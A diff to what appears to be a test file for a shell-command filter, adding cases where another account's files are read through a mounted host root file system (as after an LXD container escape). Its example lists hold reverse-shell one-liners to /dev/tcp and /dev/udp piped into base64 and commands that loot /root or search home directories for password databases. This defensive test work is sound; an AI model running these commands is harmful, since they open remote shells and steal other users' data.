@@ -19,7 +19,8 @@ are variants written for the tests, not the ones measured:
   file on it read past the permissions; another account's home directory itself copied, linked or searched
   (``cp -r /root ./loot``, ``ln -s /root courses``), not only a file under it. Listing it (``ls /root``)
   and checking it (``stat``) stay allowed; a remote shell piped into an encoder (``echo 'bash -i >&
-  /dev/tcp/IP/4444 0>&1' | base64``): the payload made to pass a filter.
+  /dev/tcp/IP/4444 0>&1' | base64``): the payload made to pass a filter; another account's file on another
+  root file system (``cat /mnt/root/root.txt`` after an LXD container was given the host's ``/``).
 """
 
 from __future__ import annotations
@@ -70,6 +71,11 @@ HELD = {
         "rsync -a /home/alice/ ./a/",
         "find /home/alice -name '*.kdbx'",
     ],
+    "another account's file on another root": [
+        "cat /mnt/root/root.txt",
+        "cat /mnt/home/mike/user.txt",
+        "cp /host/root/notes.txt .",
+    ],
     "a remote shell encoded": [
         "echo 'bash -i >& /dev/tcp/10.10.14.7/4444 0>&1' | base64",
         "printf 'sh -i >& /dev/udp/10.0.0.1/9001 0>&1' | base64 -w0",
@@ -99,5 +105,7 @@ ALLOWED = [
     "stat /root",
     "cp -r /home/dev/templates ./templates",
     "echo -n 'user:token' | base64",
+    "cat /mnt/home/dev/notes.txt",
+    "cat /mnt/data/report.csv",
     "echo 'nc -z localhost 5432' | base64",
 ]
